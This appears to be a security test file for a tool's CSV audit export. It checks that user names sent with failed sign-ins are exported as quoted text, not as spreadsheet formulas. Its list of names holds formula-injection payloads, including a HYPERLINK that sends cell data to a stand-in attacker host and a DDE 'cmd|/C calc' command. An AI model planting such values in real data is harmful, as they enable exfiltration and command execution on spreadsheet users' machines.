/**
 * Formula injection through the audit export: anyone who can reach the sign-in form chooses the
 * user name a failed attempt is recorded under. `tessera audit export --format csv` must hand that
 * name to a spreadsheet as text, never as a formula (OWASP: = + - @ tab carriage return).
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { createApp, createHandler, createServerContext } from '../server/app.ts';
import { loadConfig } from '../server/config.ts';
import { userWithToken } from './helpers/auth.ts';

const dataDir = mkdtempSync(path.join(tmpdir(), 'tessera-audit-csv-'));
afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

/** The names an attacker signs in with: each one a formula in some spreadsheet. */
const NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];

/** RFC 4180 fields of a CSV text (quoted fields may hold commas, quotes and line breaks). */
function fields(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (ch === '"') quoted = true;
    else if (ch === ',' || ch === '\n') {
      row.push(cell);
      cell = '';
      if (ch === '\n') {
        rows.push(row);
        row = [];
      }
    } else cell += ch;
  }
  return rows;
}

describe('audit export as CSV', () => {
  it('a failed sign-in named as a formula comes out as text; no cell starts a formula', async () => {
    const ctx = await createServerContext(loadConfig({ dataDir, port: 0, host: '127.0.0.1' }, {}), () => {});
    await userWithToken(ctx.db, { name: 'ada', role: 'admin', siteId: 'north' });
    const server = createServer(createHandler(ctx, createApp(ctx)));
    server.listen(0, '127.0.0.1');
    await new Promise((r) => server.once('listening', r));
    try {
      const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      for (const name of NAMES) {
        const r = await fetch(`${base}/api/auth/login`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ name, password: 'wrong-password' }),
        });
        expect(r.status, JSON.stringify(name)).toBe(401);
      }
    } finally {
      await new Promise((r) => server.close(r));
      await ctx.tiles.close();
      await ctx.db.destroy();
    }

    const out = spawnSync(
      process.execPath,
      [path.resolve('scripts/bin/tessera.mjs'), 'audit', 'export', '--format', 'csv', '--data', dataDir],
      { encoding: 'utf8', timeout: 120_000 },
    );
    expect(out.stderr).toBe('');
    expect(out.status).toBe(0);
    const rows = fields(out.stdout);
    const header = rows[0]!;
    const userName = header.indexOf('user_name');
    const action = header.indexOf('action');
    const failed = rows.filter((r) => r[action] === 'auth.login_failed').map((r) => r[userName]);
    // Every attempt is there, as the name that was typed, behind one quote.
    expect(failed.sort()).toEqual(NAMES.map((n) => `'${n}`).sort());
    for (const row of rows)
      for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
  });
});
